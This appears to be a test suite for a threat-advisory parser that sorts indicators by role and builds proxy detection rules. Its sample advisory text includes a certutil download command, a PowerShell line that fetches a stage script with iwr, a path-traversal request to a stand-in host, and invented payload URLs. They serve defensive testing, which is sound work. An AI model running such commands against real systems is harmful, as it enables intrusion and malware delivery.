import { findEvidence, generate, type JudgedThing } from '@tripline/advisory';
import { markdownAdvisory } from '../support/documents.js';

const STORY =
  '# Heron\n\nThe loader heron.exe of the intruders ran on Windows. Its panel is hxxp://heron-fog[.]site/panel/in.php.';

async function thingsOf(text: string): Promise<readonly JudgedThing[]> {
  return findEvidence(await markdownAdvisory(`${STORY}\n\n${text}\n`)).things;
}

async function roleOf(text: string, value: string): Promise<string | undefined> {
  return (await thingsOf(text)).find((each) => each.value === value)?.role;
}

describe('an address on a host that everybody uses', () => {
  it.each([
    [
      'a request to it',
      'The loader sends a request to https://www.microsoft.com before it goes on.',
      'www.microsoft.com',
    ],
    [
      'a request that the paragraph before it introduces',
      'Then it changes the mailbox by sending an HTTP POST request to:\n\nhttps://mail.google.com/mail/u/0/?view=up&act=prefs',
      'mail.google.com/mail/u/0/?view=up&act=prefs',
    ],
    [
      'a command that fetches it',
      'Its commands were:\n\n```\ncertutil.exe -urlcache -split -f https://www.google.com/robots.txt C:\\PerfLogs\\t\n```',
      'www.google.com/robots.txt',
    ],
  ])('is abused where the text tells %s', async (_what, text, value) => {
    expect(await roleOf(text, value)).toBe('abused');
  });

  it.each([
    [
      'the sentence around it tells the intrusion',
      'The intruders deleted the shadow copies with a tool of [Microsoft](https://learn.microsoft.com/tools/heron) and encrypted all files.',
      'learn.microsoft.com/tools/heron',
    ],
    [
      'it is a source',
      'The intruders sent a request to the panel. More is written on it here: https://en.wikipedia.org/wiki/Heron_panel',
      'en.wikipedia.org/wiki/Heron_panel',
    ],
    [
      'readers are told to reach it',
      'Administrators should download the update from https://www.microsoft.com/download/heron and install it.',
      'www.microsoft.com/download/heron',
    ],
  ])('is only mentioned where %s', async (_why, text, value) => {
    expect(await roleOf(text, value)).not.toBe('abused');
    expect(await roleOf(text, value)).not.toBe('intruders');
  });
});

describe('a file on a host that everybody uses', () => {
  const proxyOf = async (text: string): Promise<string> => {
    const { rules } = generate(await markdownAdvisory(`${STORY}\n\n${text}\n`));
    return rules.find(({ log }) => log === 'network/proxy')?.yaml ?? '';
  };

  it.each([
    [
      'The loader downloads its next stage from https://raw.githubusercontent.com/fenlow/kit/main/reed.ps1 then.',
      'reed.ps1',
    ],
    [
      'The payload is hosted at https://github.com/fenlow/kit/releases/download/v1/reed.exe.',
      'releases/download/v1/reed.exe',
    ],
    [
      'It fetched https://cdn.discordapp.com/attachments/918273/918277/reed.dll with curl.',
      'attachments/918273/918277/reed.dll',
    ],
    ['The script pulls the rest from https://pastebin.com/raw/Xa9Qz1Lm.', 'pastebin.com/raw/Xa9Qz1Lm'],
    [
      'It retrieved https://gitlab.com/fenlow/agent/-/raw/main/reed.bin and https://bitbucket.org/fenlow/kit/downloads/marsh.exe.',
      'bitbucket.org/fenlow/kit/downloads/marsh.exe',
    ],
    [
      'The attackers stored the payload in https://storage.googleapis.com/fenbucket/files/reed.msi.',
      'fenbucket/files/reed.msi',
    ],
    ['The attackers downloaded tools from https://download.sysinternals.com/files/PSTools.zip.', 'files/PSTools.zip'],
  ])('is asked for with its path, and never the host alone: %s', async (text, value) => {
    const yaml = await proxyOf(text);
    expect(yaml).toContain(value);
    expect(yaml).not.toContain('cs-host');
  });

  it.each([
    'The attackers used Mimikatz (https://github.com/gentilkiwi/mimikatz/releases) on the server.',
    'Our YARA rules can be downloaded from https://raw.githubusercontent.com/ourteam/rules/main/reed.yar.',
    'Administrators should download the patch from https://download.microsoft.com/fen/reed/patch.msi.',
    'The attackers could have downloaded a payload from https://www.dropbox.com/s/z7k2m9q1/reed.zip.',
    'The attackers did not download anything from https://github.com/fenlow/kit/releases/download/1/reed.exe.',
    'We downloaded the sample from https://bazaar.abuse.ch/download/reed.zip.',
    'The attackers downloaded it from https://github.com/fenlow/kit.',
  ])('is none where it is only linked to, advised, denied or somebody else’s: %s', async (text) => {
    expect(await proxyOf(text)).not.toMatch(/github|dropbox|microsoft|abuse/u);
  });
});

describe('a ransom note of a name that everybody’s programs use', () => {
  const NOTE = 'The ransomware encrypts the files and drops the ransom note readme.txt into every folder.';

  it('is the intruder’s, and a hint', async () => {
    const hint = NOTE.replace('readme', 'recover');
    expect(await roleOf(hint, 'recover.txt')).toBe('intruders');
    const { rules } = generate(await markdownAdvisory(`${STORY}\n\n${hint}\n`));
    expect(rules.filter(({ yaml }) => yaml.includes('recover.txt')).map(({ level }) => level)).toEqual(['low']);
  });

  it('is not found in the name of an encrypted file', async () => {
    const text = 'The ransomware encrypts the files. The ransom note lies beside readme.txt.heronlocked afterwards.';
    expect(await roleOf(text, 'readme.txt')).toBeUndefined();
  });
});

describe('what is the reader’s', () => {
  const REQUEST = (host: string) =>
    `# Heron Gate\n\nThe flaw of Heron Gate is exploited by one request.\n\n\`\`\`\nGET /gate/export?f=../x HTTP/1.1\nHost: ${host}\nUser-Agent: heron-probe/1.2\n\`\`\`\n`;

  it('is the client of a request that is tried on a host that stands for any other', async () => {
    expect(await roleOf(REQUEST('target:8080'), 'heron-probe/1.2')).toBe('readers');
  });

  it.each(['gate.fogheronbank.com', '[redacted]', 'redacted'])(
    'is not the client of one that was sent to %s',
    async (host) => {
      expect(await roleOf(REQUEST(host), 'heron-probe/1.2')).toBe('intruders');
    },
  );

  it('is an address in a line of a rule for files that lost its frame', async () => {
    const line = 'description = "finds loaders with strings of https://github.com/heronlib/heronpack in them"';
    expect(await roleOf(line, 'github.com/heronlib/heronpack')).toBe('readers');
  });

  it('is not an address that a script keeps in a variable', async () => {
    const code = "```\n$url = 'http://fogheronbank.com/in/stage.ps1'\niwr $url\n```";
    expect(await roleOf(code, 'fogheronbank.com/in/stage.ps1')).not.toBe('readers');
  });

  it('is a tool that a section for readers offers', async () => {
    const text =
      '## Detection\n\nWe wrote a scanner for the traces. It can be downloaded here: https://github.com/heronlab/heronscan\n';
    expect(await roleOf(text, 'github.com/heronlab/heronscan')).toBe('readers');
  });

  it('is not what such a section links to for more', async () => {
    const text = '## Detection\n\nThe fields are explained in https://learn.microsoft.com/heron/fields in detail.\n';
    expect(await roleOf(text, 'learn.microsoft.com/heron/fields')).toBe('mentioned');
  });

  it.each(['Detection: Monitor Windows', 'Hunting tip: in the log of Windows Security, count'])(
    'is an event id behind a label that says so: %s',
    async (opening) => {
      expect(await roleOf(`${opening} for the event IDs 4738 and 4728 of accounts.`, '4738')).toBe('readers');
    },
  );

  it('is not what stands behind a label of another kind', async () => {
    const text = 'Windows event: The intruder changed an account (event ID 4738).';
    expect(await roleOf(text, '4738')).not.toBe('readers');
  });

  it('gives no rule where a label says that it mends', async () => {
    const text =
      'Mitigation: Administrators who run useradd on Linux or open the Windows firewall with netsh should say so.';
    const { rules } = generate(await markdownAdvisory(`${STORY}\n\n${text}\n`));
    expect(
      rules.map(({ title }) => title).filter((title) => title.includes('Firewall') || title.includes('User')),
    ).toEqual([]);
  });
});

describe('a value that its author wrote over', () => {
  it('is a part that is not known in a web address', async () => {
    const things = await thingsOf('It loads hxxp://fogheronbank[.]com/XXXXXXX/stage.ps1 then.');
    expect(things.find(({ value }) => value === 'fogheronbank.com//stage.ps1')).toMatchObject({
      role: 'partly-placeholder',
      parts: ['fogheronbank.com/', '/stage.ps1'],
    });
  });

  it('is a placeholder as a whole in the name of a computer', async () => {
    expect(await roleOf('Machines of the form DESKTOP-XXXXXXX are left alone.', 'DESKTOP-XXXXXXX')).toBe('placeholder');
  });

  it('is none where the letters are a word of the address', async () => {
    const things = await thingsOf('It loads hxxp://fogheronbank[.]com/ZZZZap/stage.ps1 then.');
    expect(things.find(({ value }) => value === 'fogheronbank.com/ZZZZap/stage.ps1')?.parts).toBeUndefined();
  });
});

it('a call of AWS is no account', async () => {
  const text = 'On AWS a policy of administrators was attached to the new account with AttachUserPolicy.';
  expect(await roleOf(text, 'AttachUserPolicy')).toBeUndefined();
});
